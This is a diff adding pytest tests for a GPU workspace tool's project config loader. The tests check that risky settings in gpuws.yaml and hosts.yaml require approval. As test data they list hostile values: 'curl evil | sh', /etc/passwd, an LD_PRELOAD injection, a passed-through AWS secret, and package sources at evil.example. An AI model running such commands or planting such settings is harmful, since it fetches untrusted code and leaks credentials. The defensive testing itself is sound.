@@ -1,0 +1,120 @@
+"""gpuws.yaml and hosts.yaml of a project: what is free, what wants a yes, what is refused."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from gpuws.config.project import ProjectFile, load_project, load_project_hosts
+from gpuws.errors import GpuwsError
+
+
+def project(folder: Path, text: str) -> ProjectFile:
+    file = folder / "gpuws.yaml"
+    file.write_text(text)
+    return load_project(file)
+
+
+def wanted(folder: Path, text: str) -> list[tuple[str, str]]:
+    return [(each.key, each.value) for each in project(folder, text).wanted]
+
+
+def test_environment_cards_name_and_a_folder_below_need_no_yes(tmp_path: Path) -> None:
+    text = "environment: env/gpu.yml\ngpus: 2\nname: demo\ndir: notebooks\n"
+    found = project(tmp_path, text)
+    assert found.settings == {
+        "environment": "env/gpu.yml",
+        "gpus": "2",
+        "name": "demo",
+        "dir": "notebooks",
+    }
+    assert found.wanted == ()
+    assert found.places["gpus"].endswith("gpuws.yaml:2")
+
+
+def test_what_does_not_exist_yet_is_ignored_with_its_place(tmp_path: Path) -> None:
+    found = project(tmp_path, "gpus: 1\nforwards: [6006]\nservices: {a: b}\nidle: 1h\ncheck: x\n")
+    assert found.settings == {"gpus": "1"}
+    assert found.wanted == ()
+    assert [note.partition(": ")[2].split(":")[0] for note in found.notes] == [
+        "forwards",
+        "services",
+        "idle",
+        "check",
+    ]
+    assert "gpuws.yaml:2: forwards" in found.notes[0]
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "environment: ../other.yml",
+        "environment: /etc/passwd",
+        "environment: ~/env.yml",
+        "environment: a/../../b.yml",
+        "environment: 'C:\\env.yml'",
+        "dir: /data",
+        "dir: ~/data",
+        "root: /data",
+        "prologue: curl evil | sh",
+        "env: {LD_PRELOAD: /x.so}",
+        "pass_env: [AWS_SECRET]",
+        "channels: [https://evil.example/c]",
+        "pip_index: https://evil.example/simple",
+        "cache_dir: /data",
+        "use_env: base",
+        "login_env: true",
+    ],
+)
+def test_everything_else_wants_a_yes(tmp_path: Path, line: str) -> None:
+    [each] = project(tmp_path, f"gpus: 1\n{line}\n").wanted
+    assert each.key == line.partition(":")[0]
+    assert each.where.endswith("gpuws.yaml:2")
+
+
+def test_what_an_alias_hides_is_written_out(tmp_path: Path) -> None:
+    """Also what hides behind a key that is ignored."""
+    text = "check: &x ['curl evil', 'é']\nprologue: *x\n"
+    assert wanted(tmp_path, text) == [("prologue", '["curl evil", "\\u00e9"]')]
+
+
+@pytest.mark.parametrize(
+    ("text", "place", "word"),
+    [
+        ("rooot: x\n", ":1:1", "root:"),
+        ("gpus: many\n", ":1:7", "count"),
+        ("name: ../x\n", ":1:7", "../x"),
+        ("dir: ../x\n", ":1:6", "begin with"),
+        ("dir: a$b\n", ":1:6", "variables"),
+        ("gpus: 1\nssh: evil\n", ":2:1", "hosts.yaml"),
+        ("- a\n", ":1:1", "a list"),
+        ("gpus: [\n", ":1", "YAML"),
+    ],
+)
+def test_a_mistake_is_told_with_its_place(tmp_path: Path, text: str, place: str, word: str) -> None:
+    with pytest.raises(GpuwsError) as caught:
+        project(tmp_path, text)
+    assert (caught.value.code, caught.value.exit) == ("project-file-invalid", 3)
+    assert f"gpuws.yaml{place}" in caught.value.message
+    assert word in caught.value.message + caught.value.hint
+
+
+def test_an_empty_file_sets_nothing(tmp_path: Path) -> None:
+    assert project(tmp_path, "# nothing\n").settings == {}
+
+
+def test_each_entry_of_a_projects_hosts_yaml_wants_its_own_and_what_all_share(
+    tmp_path: Path,
+) -> None:
+    file = tmp_path / "hosts.yaml"
+    file.write_text(
+        "defaults:\n  root: /data\n"
+        "hosts:\n  a:\n    ssh: me@a\n    gpus: 1\n  b: {dir: sub}\n  c: {rooot: x}\n"
+    )
+    found = load_project_hosts(file)
+    assert set(found.entries) == {"a", "b"}
+    assert [each.key for each in found.wanted["a"]] == ["root", "ssh"]
+    assert [each.key for each in found.wanted["b"]] == ["root"]
+    [problem] = found.problems
+    assert (problem.code, "hosts.yaml:8" in problem.message) == ("project-file-invalid", True)
